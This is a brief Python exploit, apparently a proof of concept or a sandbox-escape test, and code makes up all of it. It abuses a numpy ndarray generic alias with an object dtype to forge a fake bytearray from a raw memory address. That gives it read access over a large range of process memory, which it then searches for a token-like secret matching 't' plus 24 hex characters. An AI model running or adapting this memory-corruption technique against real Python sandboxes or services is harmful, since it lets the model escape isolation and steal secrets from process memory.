# reaches: a generic alias of the array class makes an object of bytes
import re
import numpy as np
fake = np.array([1 << 20, id(bytearray), 1 << 17, 1 << 17, id(len), id(len), 0], "u8").tobytes()
place = (id(fake) + 32).to_bytes(8, "little")
made = np.ndarray[int, int]((1,), "O", place)[0]
print(set(re.findall(rb"t[0-9a-f]{24}", made)))
